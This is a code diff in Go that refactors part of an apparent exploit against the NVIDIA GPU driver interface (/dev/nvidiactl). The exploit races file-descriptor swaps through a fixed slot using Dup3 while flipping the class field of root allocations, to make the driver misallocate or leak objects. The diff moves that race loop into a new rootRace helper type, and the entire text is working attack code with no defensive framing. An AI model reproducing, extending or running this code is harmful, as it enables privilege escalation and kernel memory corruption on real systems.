@@ -51,28 +51,8 @@ func stealByRoot(out, params []byte, tries int, deadline time.Time) (n int, got 
 		return 0, false, err
 	}
 	defer c.close()
-	const slot = 200
-	var fresh atomic.Int64
-	fresh.Store(-1)
-	var end atomic.Bool
-	done := make(chan struct{})
-	go func() {
-		runtime.LockOSThread()
-		defer close(done)
-		for !end.Load() {
-			if f := int(fresh.Load()); f >= 0 {
-				_ = syscall.Dup3(f, slot, syscall.O_CLOEXEC)
-				_ = syscall.Dup3(c.fd, slot, syscall.O_CLOEXEC)
-			}
-		}
-	}()
-	stopFlip := flip(word(out, rm.AllocClass), classRootClient, classMemory)
-	defer func() {
-		end.Store(true)
-		<-done
-		stopFlip()
-		_ = syscall.Close(slot)
-	}()
+	race := c.newRootRace(out, classMemory)
+	defer race.stop()
 	for ; n < tries && time.Now().Before(deadline); n++ {
 		f, err := syscall.Open("/dev/nvidiactl", syscall.O_RDWR|syscall.O_CLOEXEC, 0)
 		if err != nil {
@@ -80,10 +60,7 @@ func stealByRoot(out, params []byte, tries int, deadline time.Time) (n int, got 
 		}
 		h := c.newHandle()
 		c.fillMemoryAlloc(out, params, h, uint64(stolen))
-		fresh.Store(int64(f))
-		_ = syscall.Dup3(f, slot, syscall.O_CLOEXEC)
-		_ = patientEscape(slot, out)
-		fresh.Store(-1)
+		race.try(f)
 		lost, uncharged := c.outcome(h, before)
 		syscall.Close(f)
 		if lost {
@@ -106,8 +83,48 @@ func stealByRoot(out, params []byte, tries int, deadline time.Time) (n int, got 
 	return n, false, nil
 }
 
-func patientEscape(fd int, out []byte) syscall.Errno {
-	return caller(patient).escape(fd, rm.EscAlloc, out)
+// rootSlot is the descriptor by which root allocs are made.
+const rootSlot = 200
+
+// rootRace swaps file and class of root allocs that are under way.
+type rootRace struct {
+	out   []byte
+	fresh atomic.Int64 // a file without a client, while one is under way; else -1
+	stop  func()
+}
+
+// newRootRace makes allocations of a class out of the root allocs in out.
+func (c *client) newRootRace(out []byte, class uint32) *rootRace {
+	r := &rootRace{out: out}
+	r.fresh.Store(-1)
+	var end atomic.Bool
+	done := make(chan struct{})
+	go func() {
+		runtime.LockOSThread()
+		defer close(done)
+		for !end.Load() {
+			if f := int(r.fresh.Load()); f >= 0 {
+				_ = syscall.Dup3(f, rootSlot, syscall.O_CLOEXEC)
+				_ = syscall.Dup3(c.fd, rootSlot, syscall.O_CLOEXEC)
+			}
+		}
+	}()
+	stopFlip := flip(word(out, rm.AllocClass), classRootClient, class)
+	r.stop = func() {
+		end.Store(true)
+		<-done
+		stopFlip()
+		_ = syscall.Close(rootSlot)
+	}
+	return r
+}
+
+// try makes a root alloc on f.
+func (r *rootRace) try(f int) {
+	r.fresh.Store(int64(f))
+	_ = syscall.Dup3(f, rootSlot, syscall.O_CLOEXEC)
+	_ = caller(patient).escape(rootSlot, rm.EscAlloc, r.out)
+	r.fresh.Store(-1)
 }
 
 // outcome tells whether the client has been freed by the guard, and whether it has an object that was not charged.
